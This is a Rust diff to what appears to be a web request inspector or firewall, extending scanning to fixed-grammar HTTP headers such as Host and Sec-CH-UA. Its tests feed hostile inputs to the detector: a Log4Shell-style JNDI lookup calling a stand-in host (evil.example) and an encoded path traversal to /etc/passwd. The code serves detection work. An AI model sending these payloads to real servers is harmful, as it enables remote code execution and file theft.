@@ -120,6 +120,10 @@ impl Visitor for Inspector<'_> {
             match Place::of(point, role) {
                 Some(Place::Uri) => self.target(point, value),
                 Some(place) => self.scan(point, value, place),
+                // A server logs and compares these fields too: what breaks their grammar is scanned.
+                None if !value.iter().all(|&byte| is_structural(byte)) => {
+                    self.scan(point, value, Place::HeaderValue);
+                }
                 None => {}
             }
         }
@@ -154,6 +158,11 @@ impl Inspector<'_> {
             collect(self.policy, point, path, &mut self.signs, &mut self.whole_path);
         }
     }
+}
+
+/// What dates, tokens, hosts and client hints are made of; too little to write an attack with.
+fn is_structural(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || b" \t-_.,:;=/?+()[]\"".contains(&byte)
 }
 
 /// The path of a target: without the query, and without scheme and authority of the absolute form.
@@ -269,7 +278,7 @@ fn is_path(point: &Point) -> bool {
 }
 
 impl Place {
-    /// The place of a point of a walk; `None` where nothing that reaches an application's logic can be.
+    /// The place of a point of a walk; `None` for header fields of fixed grammar, where no attack can be written.
     #[must_use]
     pub fn of(point: &PointPath<'_>, role: Role) -> Option<Place> {
         let name = role == Role::Name;
@@ -293,7 +302,7 @@ impl Place {
 }
 
 fn header_place(point: &PointPath<'_>, header: &str, name: bool) -> Option<Place> {
-    /// Fields whose grammar is fixed and that the proxy itself interprets.
+    /// Fields whose grammar is fixed.
     const STRUCTURAL: &[&str] = &[
         "CONNECTION",
         "CONTENT-LENGTH",
@@ -369,6 +378,21 @@ mod tests {
     fn an_encoded_climb_shows_in_the_target() {
         let found = detections("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", &[], "");
         assert!(found.iter().any(|d| d.attack_type == AttackType::Ptrav), "{found:?}");
+    }
+
+    #[test]
+    fn fields_of_fixed_grammar_are_scanned_when_they_break_it() {
+        for name in ["Sec-CH-UA", "DNT", "Host", "If-Modified-Since", "Sec-WebSocket-Key"] {
+            let found = detections("/", &[(name, "${jndi:ldap://evil.example/a}")], "");
+            assert!(found.iter().any(|d| d.attack_type == AttackType::Rce), "{name}: {found:?}");
+        }
+        let hints = "\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\", \"Not(A:Brand\";v=\"8\"";
+        let plain = [
+            ("Sec-CH-UA", hints),
+            ("If-Modified-Since", "Sun, 06 Nov 1994 08:49:37 GMT"),
+            ("Host", "[::1]:80"),
+        ];
+        assert_eq!(detections("/", &plain, ""), []);
     }
 
     #[test]
